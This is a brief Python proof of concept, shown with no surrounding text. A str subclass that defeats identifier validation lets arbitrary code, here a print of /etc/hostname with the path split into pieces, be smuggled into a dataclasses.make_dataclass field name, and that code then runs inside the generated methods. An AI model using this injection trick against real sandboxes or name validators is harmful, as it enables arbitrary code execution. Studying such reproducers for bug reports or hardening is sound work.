import dataclasses
class S(str):
    def __getattribute__(self, n):
        if n.startswith("isid"): return lambda: True
        return super().__getattribute__(n)
C = dataclasses.make_dataclass("C", [(S("x,*,y=print(open('/etc/host'+'name').read())"), int, dataclasses.field(init=False, repr=False))])
C() == C()
